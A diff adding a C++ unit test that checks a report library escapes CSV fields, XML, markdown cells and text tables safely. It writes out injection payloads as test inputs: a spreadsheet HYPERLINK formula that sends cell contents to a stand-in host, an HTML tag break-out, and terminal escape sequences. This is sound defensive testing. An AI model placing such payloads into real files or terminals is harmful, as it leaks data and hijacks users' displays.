@@ -475,6 +475,27 @@ TEST(Escape, XmlAndCsv) {
   EXPECT_FALSE(parse_report_format("pdf").has_value());
 }
 
+// A report's strings are data: a spreadsheet must not run them, XML must stay well formed, a
+// PR comment must not take them for markup, a terminal must not act on them.
+TEST(Escape, ReportTextNeverBecomesFormulaMarkupOrTerminalControl) {
+  EXPECT_EQ(csv_field("=HYPERLINK(\"http://x/?\"&A1,\"c\")"), "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"c\"\")\"");
+  EXPECT_EQ(csv_field("@SUM(A1)"), "'@SUM(A1)");
+  EXPECT_EQ(csv_field("-0.5"), "-0.5");  // numbers stay numbers
+  EXPECT_EQ(csv_field("+1e-3"), "+1e-3");
+  EXPECT_EQ(csv_field("-"), "-");
+  EXPECT_EQ(csv_field("a\x1b[2Jb"), "a\xEF\xBF\xBD[2Jb");
+  EXPECT_EQ(xml_escape("bad\xff.json"), "bad\xEF\xBF\xBD.json");
+  EXPECT_EQ(xml_escape("caf\xC3\xA9"), "caf\xC3\xA9");
+  EXPECT_EQ(markdown_cell("evil\\|</details><img src=x>&"), "evil\\\\\\|&lt;/details&gt;&lt;img src=x&gt;&amp;");
+  TextTable table({{"case", Align::Left}});
+  table.add_row({"a\x1b]0;title\x07b\xC2\x9B2Jc\nd"});
+  const std::string text = table.to_text();
+  EXPECT_EQ(text.find('\x1b'), std::string::npos) << text;
+  EXPECT_EQ(text.find('\x07'), std::string::npos) << text;
+  EXPECT_EQ(text.find("\xC2\x9B"), std::string::npos) << text;
+  EXPECT_NE(text.find("c d"), std::string::npos) << text;
+}
+
 // A sweep of thousands of shapes still makes a page a browser opens: charts and decision grids
 // for the first groups only, saying so, and every case in the table.
 TEST(RenderHtml, LargeSweepsGetBoundedChartsAndEveryCaseInTheTable) {
